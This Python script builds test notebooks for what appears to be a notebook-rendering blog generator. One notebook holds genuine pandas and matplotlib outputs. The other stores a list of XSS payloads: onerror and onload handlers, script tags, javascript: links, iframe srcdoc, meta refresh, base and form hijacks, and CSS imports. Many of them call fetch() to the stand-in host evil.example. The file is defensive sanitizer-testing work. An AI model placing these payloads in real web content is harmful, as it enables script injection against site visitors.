"""Writes the notebooks of this test root (run by hand; the notebooks are committed).

``rich-outputs.ipynb`` holds what ML notebooks really produce, made by the real libraries:
a pandas DataFrame's HTML, a pandas Styler's HTML (its <style> with ids, its table), a
matplotlib figure as SVG and as PNG, Markdown, and a video next to the notebook.
``hostile-outputs.ipynb`` holds one attack per cell, each a stored output.

    PYTHONPATH=<a folder with pandas> python make_notebooks.py
"""

import base64
import io
import json
import wave
from pathlib import Path

import matplotlib

matplotlib.use("agg")
import matplotlib.pyplot as plt  # noqa: E402
import pandas as pd  # noqa: E402

HERE = Path(__file__).parent / "posts" / "2024"
KERNEL = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}


def notebook(metadata, cells):
    return (
        json.dumps(
            {"cells": cells, "metadata": {**metadata, **KERNEL}, "nbformat": 4, "nbformat_minor": 4}, indent=1
        )
        + "\n"
    )


def markdown(text):
    return {"cell_type": "markdown", "metadata": {}, "source": text}


def code(source, data, tags=()):
    output = {"output_type": "display_data", "metadata": {}, "data": {**data}}
    return {
        "cell_type": "code",
        "execution_count": 1,
        "metadata": {"tags": list(tags)} if tags else {},
        "outputs": [output],
        "source": source,
    }


def html(text):
    return {"text/html": text, "text/plain": "<output>"}


def figure():
    matplotlib.rcParams["svg.hashsalt"] = "blog-tests"  # the same ids on every run
    fig, ax = plt.subplots(figsize=(3.2, 2), dpi=60)
    ax.plot([1 / (e + 1) for e in range(10)], color="#1f6f8b")
    ax.set_xlabel("epoch")
    ax.set_ylabel("loss")
    svg, png = io.StringIO(), io.BytesIO()
    fig.savefig(svg, format="svg", metadata={"Date": None})
    fig.savefig(png, format="png")
    return svg.getvalue(), base64.b64encode(png.getvalue()).decode()


#: IPython.display.Audio(url="tone.wav"), as it displays: a file next to the notebook.
AUDIO = (
    '<audio  controls="controls" >\n    <source src="tone.wav" type="audio/x-wav" />\n'
    "    Your browser does not support the audio element.\n</audio>"
)


def tone():
    """A tenth of a second of silence, as WAV."""
    out = io.BytesIO()
    with wave.open(out, "wb") as wav:
        wav.setnchannels(1)
        wav.setsampwidth(1)
        wav.setframerate(8000)
        wav.writeframes(bytes([128]) * 800)
    return out.getvalue()


def rich():
    frame = pd.DataFrame({"epoch": [1, 2, 3], "loss": [0.9, 0.45, 0.3], "accuracy": [0.61, 0.78, 0.84]})
    styler = (
        frame.style.set_uuid("losses").background_gradient(subset=["loss"], cmap="Blues").format(precision=2)
    )
    svg, png = figure()
    cells = [
        markdown("# Rich outputs\n\nWhat a machine-learning notebook shows."),
        code("frame", {"text/html": frame._repr_html_(), "text/plain": repr(frame)}),
        code("frame.style.background_gradient()", {"text/html": styler.to_html(), "text/plain": "<Styler>"}),
        code("fig  # as SVG", {"image/svg+xml": svg, "text/plain": "<Figure>"}),
        code("fig  # as PNG", {"image/png": png, "text/plain": "<Figure>"}),
        code(
            "Markdown(report)",
            {
                "text/markdown": "**Best epoch:** 3, with *accuracy* 0.84.\n\n"
                "- loss: 0.30\n- accuracy: 0.84\n",
                "text/plain": "<Markdown>",
            },
        ),
        code('Audio(url="tone.wav")', html(AUDIO)),
        markdown("That is all."),
    ]
    return notebook({"date": "2024-05-01", "tags": ["Python"], "category": "Tutorials"}, cells)


EVIL = "https://evil.example"
ATTACKS = [
    ("img onerror", html(f"<img src=x onerror=\"fetch('{EVIL}/img-onerror')\">")),
    ("svg onload", html(f'<svg onload="fetch(\'{EVIL}/svg-onload\')"><circle r="4"/></svg>')),
    ("script in html", html(f"<p>chart</p><script>fetch('{EVIL}/script-html'); alert(1)</script>")),
    (
        "script in markdown",
        {
            "text/markdown": f"Some *text*.\n\n<script>fetch('{EVIL}/script-md'); alert(2)</script>\n",
            "text/plain": "<Markdown>",
        },
    ),
    (
        "javascript link",
        html('<a href="javascript:alert(3)">click me</a> <a href="java&#x09;script:alert(4)">or me</a>'),
    ),
    (
        "iframe srcdoc",
        html(f"<iframe srcdoc=\"&lt;script&gt;parent.fetch('{EVIL}/srcdoc')&lt;/script&gt;\"></iframe>"),
    ),
    ("backslash src", html('<img src="/\\evil.example/backslash.png" alt="chart">')),
    ("object data", html(f'<object data="{EVIL}/object.swf"></object>')),
    ("embed", html(f'<embed src="{EVIL}/embed.swf">')),
    ("meta refresh", html(f'<meta http-equiv="refresh" content="0; url={EVIL}/refresh">')),
    ("base href", html(f'<base href="{EVIL}/"><p>base</p>')),
    ("form action", html(f'<form action="{EVIL}/form"><input name=q><button>Go</button></form>')),
    (
        "style import",
        html("<style>@import url(//evil.example/import.css); p { color: red }</style><p>styled</p>"),
    ),
    ("style url", html("<p style=\"background: url('https://evil.example/style-attr.png')\">bg</p>")),
    (
        "svg output",
        {
            "image/svg+xml": (
                '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" '
                'xmlns:xlink="http://www.w3.org/1999/xlink" '
                f'width="20" height="20" onload="fetch(\'{EVIL}/svg-file\')"><script>alert(5)</script>'
                f'<image xlink:href="{EVIL}/svg-image.png" width="5" height="5"/>'
                '<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">'
                '<img src="x" onerror="alert(6)"/></div></foreignObject>'
                '<rect width="10" height="10" fill="#1f6f8b"/></svg>'
            ),
            "text/plain": "<Figure>",
        },
    ),
    (
        "widget",
        {
            "application/vnd.jupyter.widget-view+json": {
                "model_id": "abc",
                "version_major": 2,
                "version_minor": 0,
            },
            "text/plain": "IntSlider(value=5)",
        },
    ),
    (
        "javascript output",
        {"application/javascript": f"fetch('{EVIL}/js-output')", "text/plain": "<Javascript>"},
    ),
]


def hostile():
    cells = [markdown("# Hostile outputs\n\nEach cell's stored output attacks the page.")]
    cells += [code(f"attack({name!r})", data) for name, data in ATTACKS]
    return notebook({"date": "2024-05-02", "tags": ["Python"], "category": "Tutorials"}, cells)


if __name__ == "__main__":
    (HERE / "tone.wav").write_bytes(tone())
    (HERE / "rich-outputs.ipynb").write_text(rich(), "utf-8")
    (HERE / "hostile-outputs.ipynb").write_text(hostile(), "utf-8")
